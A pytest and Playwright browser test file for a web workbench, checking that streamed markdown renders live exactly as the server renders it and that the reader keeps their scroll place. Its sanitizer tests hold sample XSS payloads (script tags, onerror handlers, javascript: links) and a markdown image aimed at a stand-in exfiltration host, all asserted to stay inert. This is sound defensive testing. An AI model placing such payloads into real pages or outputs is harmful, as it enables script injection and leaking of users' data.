"""Reading while it streams: markdown rendered live in the browser with the server's rules.

The demo agent's default script answers with markdown (a heading, a quote of the prompt,
a list, a Python block), streamed a few words at a time; `hold` streams until stopped.
A MutationObserver installed before the page loads records every state the
transcript went through, so nothing here depends on catching a moment in time.
"""

from __future__ import annotations

from typing import Any

import pytest

from runs.markdown import render_markdown
from tests import factories
from tests.support.browser import (  # noqa: F401 - fixtures
    Workbench,
    browser,
    open_session,
    screenshots,
    send,
    turn,
    wait_settled,
    workbench,
)

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]


@pytest.fixture
def session(user: Any) -> Any:
    project = factories.ProjectFactory(owner=user, name="Demo project")
    return factories.SessionFactory(project=project, title="")


# Records, on every change of the transcript: what the streaming turn showed, and anything
# that must never be in the page (elements that load or run, handlers, script URLs).
WATCH = """
window.__seen = { liveHeading: false, liveQuote: false, liveCode: false, liveImageLink: false, bad: [] };
const check = () => {
  const transcript = document.querySelector('[data-role=transcript]');
  if (!transcript) return;
  const running = transcript.querySelector("article.turn[data-status='running'] .md.live");
  if (running) {
    const h2 = running.querySelector('h2');
    if (h2 && !window.__seen.liveHeading) { window.__seen.liveHeading = true; window.__firstH2 = h2; }
    if (running.querySelector('blockquote')) window.__seen.liveQuote = true;
    if (running.querySelector('.code-block code.hljs')) window.__seen.liveCode = true;
    if (running.querySelector('a.md-image')) window.__seen.liveImageLink = true;
  }
  for (const el of transcript.querySelectorAll('img, script, iframe, svg, object, embed, style')) {
    window.__seen.bad.push(el.outerHTML.slice(0, 120));
  }
  for (const el of transcript.querySelectorAll('.md *')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on') || /^\\s*javascript:/i.test(attr.value)) {
        window.__seen.bad.push(el.outerHTML.slice(0, 120));
      }
    }
  }
};
new MutationObserver(check).observe(
  document, { subtree: true, childList: true, attributes: true, characterData: true });
"""


def test_markdown_renders_while_it_streams_and_the_settled_turn_keeps_the_same_nodes(
    workbench: Workbench, session: Any
) -> None:
    page = workbench.new_page()
    page.add_init_script(WATCH)
    open_session(page, session.pk)
    send(page, "hello there, **bold** words")
    settled = wait_settled(page, 1)
    seen = page.evaluate("window.__seen")
    # Live, not only once settled: the heading, the quote and the highlighted code block.
    assert seen["liveHeading"] and seen["liveQuote"] and seen["liveCode"], seen
    assert seen["bad"] == []
    # The server's rendering laid over the live one changed nothing: the very same nodes.
    assert page.evaluate("document.querySelector('.md.rendered h2') === window.__firstH2")
    rendered = settled.locator(".md.rendered")
    assert rendered.locator("h2").first.inner_text() == "Demo answer"
    # Highlighted by the vendored highlight.js: `def` is a keyword, and the text is intact.
    code = rendered.locator(".code-block code.language-python.hljs")
    assert code.locator(".hljs-keyword", has_text="def").count() >= 1
    assert "def count_words(prompt: str) -> int:" in code.inner_text()
    assert rendered.locator(".code-block .code-lang").inner_text() == "python"
    assert settled.locator(".code-block").get_by_role("button", name="Copy python code").count() == 1


def test_hostile_markdown_is_inert_while_it_streams_and_after(workbench: Workbench, session: Any) -> None:
    requests: list[str] = []
    page = workbench.new_page()
    page.add_init_script(WATCH)
    page.on("request", lambda request: requests.append(request.url))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    open_session(page, session.pk)
    payload = (
        '<script>window.__xss=1</script> <img src=x onerror="window.__xss=2"> '
        '[click](javascript:window.__xss=3) <a href="javascript:window.__xss=4">a</a> '
        "![secret pic](https://exfil.example/p.png?q=secret) [ok](https://example.org/)"
    )
    send(page, payload)
    settled = wait_settled(page, 1)
    seen = page.evaluate("window.__seen")
    assert seen["bad"] == [], seen["bad"]
    assert seen["liveImageLink"], "the image was shown as a link while it streamed"
    assert page.evaluate("window.__xss") is None
    assert dialogs == []
    # The image is a link that names it; the browser never fetched it.
    image = settled.locator(".md a.md-image")
    assert image.inner_text() == "image: secret pic"
    assert image.get_attribute("href") == "https://exfil.example/p.png?q=secret"
    assert image.get_attribute("rel") == "noopener noreferrer nofollow"
    assert not [url for url in requests if "exfil.example" in url]
    assert settled.locator(".md a[href^='javascript']").count() == 0
    assert settled.locator(".md a[href='https://example.org/']").inner_text() == "ok"
    # The tags were text all along.
    assert "<script>window.__xss=1</script>" in settled.locator(".md blockquote").inner_text()


# Markdown the browser must render exactly as runs/markdown.py does (so the settled
# turn's server HTML lands on the live rendering without changing a node), hostile or not.
PARITY_CASES = [
    "## Title\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n> quoted\n\n- a\n- b\n\n3. three\n4. four",
    "```js\nconst a = 1 < 2;\n```\n\n    indented code\n\n---\n\nline  \nbreak",
    "| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |",
    '[site](https://example.org "title") [mail](mailto:a@example.org) [rel](/x) <https://auto.example>',
    "[js](javascript:alert(1)) [vb](vbscript:x) [data](data:text/html,x) [ftp](ftp://x) [tel](tel:1)",
    "![alt text](https://example.org/i.png) ![](data:image/png;base64,AAAA) ![x](javascript:alert(1))",
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <b onclick=x>b</b> <!-- c --> <iframe></iframe>",
    "<div>\n*not html*\n</div>\n\n<style>p{}</style>",
    "&lt;escaped&gt; &amp; &copy; &#x3C;script&#x3E;",
    "# h1\n## h2\n### h3\n#### h4\n##### h5\n###### h6",
    "* [ ] task?\n\n1) one\n2) two\n\n```\nplain\n```",
    "Setext\n===\n\nText with trailing backslash\\\nand **unclosed",
]


def test_the_browser_renders_markdown_by_the_servers_rules(workbench: Workbench, session: Any) -> None:
    # Without the CSP: Chrome reports (and refuses) the handlers and styles of the raw HTML
    # below as soon as it is parsed, even in an inert document; what is tested here is
    # what the sanitizer keeps, the page's CSP being the layer after it.
    page = workbench.new_page(bypass_csp=True)
    open_session(page, session.pk)
    cases = [[text, render_markdown(text)] for text in PARITY_CASES]
    differences = page.evaluate(
        """async (cases) => {
            const markdown = await import('/static/js/markdown.js');
            const out = [];
            for (const [text, server] of cases) {
                const mine = document.createElement('div');
                mine.append(markdown.renderMarkdown(text));
                const theirs = document.createElement('template');
                theirs.innerHTML = server;  // an inert template: nothing in it loads or runs
                const wrapped = document.createElement('div');
                wrapped.append(theirs.content);
                if (!mine.isEqualNode(wrapped)) {
                    out.push({ text, mine: mine.innerHTML, server: wrapped.innerHTML });
                }
            }
            return out;
        }""",
        cases,
    )
    assert differences == []
    # The sanitizer on its own (the second layer): HTML from anywhere comes out inert.
    cleaned = page.evaluate(
        """async () => {
            const markdown = await import('/static/js/markdown.js');
            const div = document.createElement('div');
            div.append(markdown.sanitize(
                '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
                + '<a href="javascript:window.__xss=3">j</a><a href="https://ok.example/" onclick="x">ok</a>'
                + '<iframe src="https://e.example"></iframe><svg onload="x"></svg>'
                + '<p style="color:red" class="x">p</p>'
                + '<code class="language-py evil">c</code><form action="/x"><input></form>'));
            return div.innerHTML;
        }"""
    )
    assert cleaned == (
        '<a rel="noopener noreferrer nofollow">j</a>'
        '<a href="https://ok.example/" rel="noopener noreferrer nofollow">ok</a><p>p</p><code>c</code>'
    )
    assert page.evaluate("window.__xss") is None


def test_the_reader_keeps_their_place_while_a_turn_streams(workbench: Workbench, session: Any) -> None:
    page = workbench.new_page(viewport={"width": 1200, "height": 760})
    open_session(page, session.pk)
    for count, prompt in enumerate(["hello fast", "tool fast", "hello again fast"], start=1):
        send(page, prompt)
        wait_settled(page, count)
    send(page, "hold")  # streams until Esc stops it, however long the scrolling takes
    wait_for_text(page, "Held chunk 5.")
    # At the bottom, the page follows the stream.
    page.wait_for_function(
        "() => { const s = document.querySelector('[data-role=scroller]');"
        " return s.scrollHeight - s.scrollTop - s.clientHeight < 24; }"
    )
    workbench.docs_screenshot(page, "workbench-streaming")
    # Scrolled up to read, the reader stays where they are while text keeps arriving.
    page.evaluate("document.querySelector('[data-role=scroller]').scrollTop = 200")
    page.wait_for_function("() => document.querySelector('[data-role=scroller]').scrollTop === 200")
    chunks = page.evaluate("document.querySelector('article.turn:last-child').textContent.length")
    page.wait_for_function(
        "(n) => document.querySelector('article.turn:last-child').textContent.length > n + 200", arg=chunks
    )
    assert page.evaluate("document.querySelector('[data-role=scroller]').scrollTop") == 200
    # Back at the bottom, it follows again.
    page.evaluate("(s => { s.scrollTop = s.scrollHeight; })(document.querySelector('[data-role=scroller]'))")
    length = page.evaluate("document.querySelector('article.turn:last-child').textContent.length")
    page.wait_for_function(
        """(n) => {
            const s = document.querySelector('[data-role=scroller]');
            return document.querySelector('article.turn:last-child').textContent.length > n + 200
                && s.scrollHeight - s.scrollTop - s.clientHeight < 24;
        }""",
        arg=length,
    )
    page.keyboard.press("Escape")  # the key map's Stop
    wait_settled(page, 4, "cancelled")
    assert turn(page).locator(".md.rendered").count() >= 1


def wait_for_text(page: Any, text: str) -> None:
    page.wait_for_function(
        """(text) => {
            const turns = document.querySelectorAll('article.turn');
            return turns.length && turns[turns.length - 1].textContent.includes(text);
        }""",
        arg=text,
    )
